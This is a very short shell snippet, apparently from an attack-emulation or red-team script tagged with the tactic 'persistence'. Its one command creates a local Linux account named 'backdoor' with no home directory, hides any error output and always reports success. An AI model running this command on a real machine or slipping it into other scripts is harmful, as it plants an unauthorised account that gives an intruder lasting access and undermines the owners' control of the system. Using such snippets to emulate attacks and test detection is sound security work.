# tactic: persistence
# create a local user
useradd -M backdoor 2>/dev/null; true
